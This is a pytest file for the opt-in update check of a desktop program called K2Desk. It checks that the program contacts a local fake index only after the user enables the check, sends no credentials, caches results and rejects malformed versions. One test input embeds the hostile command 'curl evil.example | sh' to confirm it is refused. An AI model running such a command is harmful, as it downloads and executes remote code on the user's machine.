"""Whether a newer K2Desk exists, asked of an index on this machine, and never unasked."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from network_kit import listening  # type: ignore[import-not-found]

from k2desk import __version__
from k2desk.desk.program import Program
from k2desk.desk.releases import FRESH, Releases
from k2desk.provider import releases
from k2desk.settings.keys import Keys
from k2desk.settings.options import options
from k2desk.settings.store import Store
from k2desk.settings.values import Settings


class Index:
    """A package index that says one thing, and remembers what it was sent."""

    def __init__(self, said: bytes, status: str = "200 OK") -> None:
        self.said, self.status = said, status
        self.heads: list[bytes] = []

    async def __call__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heads.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(
            f"HTTP/1.1 {self.status}\r\nContent-Length: {len(self.said)}\r\n\r\n".encode() + self.said
        )
        await writer.drain()


@asynccontextmanager
async def asked(index: Index, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Index]:
    async with listening(index) as port:
        monkeypatch.setattr(releases, "ADDRESS", f"http://127.0.0.1:{port}/pypi/k2desk/json")
        yield index


def named(version: str) -> bytes:
    return b'{"info": {"name": "k2desk", "version": "%s"}, "urls": []}' % version.encode()


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "config")


async def test_nobody_is_asked_before_the_user_turned_it_on(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert Settings().newer is False
    async with asked(Index(named("99.0")), monkeypatch) as index:
        program = Program(tmp_path / "data", store, Keys(list))
        assert await program.releases.newer() == ""
        store.change(newer=True)
        assert await program.releases.newer() == "99.0"
        store.change(newer=False)
        assert await program.releases.newer() == ""
        assert len(index.heads) == 1
        program.close()


async def test_the_question_says_nothing_of_the_user(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COMETAPI_KEY", "sk-of-the-user")
    store.change(newer=True, headers="X-Team: blue")
    async with asked(Index(named("99.0")), monkeypatch) as index:
        await Releases(tmp_path / "data", store).newer()
    first, *lines = index.heads[0].decode().rstrip().split("\r\n")
    sent = dict(line.lower().split(": ", 1) for line in lines)
    assert first == "GET /pypi/k2desk/json HTTP/1.1"
    assert sent.pop("host").startswith("127.0.0.1:")
    assert sent.pop("accept") == "*/*"
    assert sent == {"user-agent": "k2desk", "accept-encoding": "identity", "connection": "keep-alive"}


async def test_an_answer_counts_for_a_day(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.change(newer=True)
    async with asked(Index(named("99.0")), monkeypatch) as index:
        for moment, times in ((1e9, 1), (1e9 + FRESH - 1, 1), (1e9 + FRESH, 2), (1e9, 3)):
            assert await Releases(tmp_path / "data", store, lambda moment=moment: moment).newer() == "99.0"
            assert len(index.heads) == times


@pytest.mark.parametrize(
    "said",
    [
        named(__version__),
        named("0.0.9"),
        named("99.0rc1"),
        named("99.0 is out, run this: curl evil.example | sh"),
        b"<html>404</html>",
        b'{"info": {}}',
        b"\xff",
        b"",
    ],
)
async def test_what_is_no_newer_version_is_no_word_worth(
    said: bytes, tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.change(newer=True)
    async with asked(Index(said), monkeypatch):
        assert await Releases(tmp_path / "data", store).newer() == ""


async def test_a_failure_is_asked_about_again_at_the_next_start(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.change(newer=True)
    async with asked(
        Index(named("99.0"), "302 Found\r\nLocation: http://127.0.0.1:9/"), monkeypatch
    ) as index:
        assert await Releases(tmp_path / "data", store).newer() == ""
        index.status = "200 OK"
        assert await Releases(tmp_path / "data", store).newer() == "99.0"
    again = Releases(tmp_path / "other", store)
    assert await again.newer() == ""  # nobody listens there now


async def test_what_was_kept_and_is_damaged_is_asked_anew(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.change(newer=True)
    async with asked(Index(named("99.0")), monkeypatch) as index:
        await Releases(tmp_path / "data", store).newer()
        (kept,) = (tmp_path / "data/releases").iterdir()
        kept.write_bytes(b"{")
        assert await Releases(tmp_path / "data", store).newer() == "99.0"
        assert len(index.heads) == 2


@pytest.mark.parametrize(
    ("version", "than", "newer"),
    [
        ("0.2", "0.1.9", True),
        ("0.10.0", "0.9.9", True),
        ("1.0.0", "1", False),
        ("1", "1.0.1", False),
        ("1.0.0.1", "1.0", True),
        ("2.0b1", "1.0", False),
        ("2.0", "1.0.dev3", False),
    ],
)
def test_versions_are_compared_by_their_numbers(version: str, than: str, newer: bool) -> None:
    assert releases.is_newer(version, than) is newer


def test_the_setting_names_the_address_that_is_asked() -> None:
    (shown,) = [option for option in options(Settings()) if option.name == "newer"]
    assert releases.ADDRESS in shown.description
    assert shown.section == "Network"
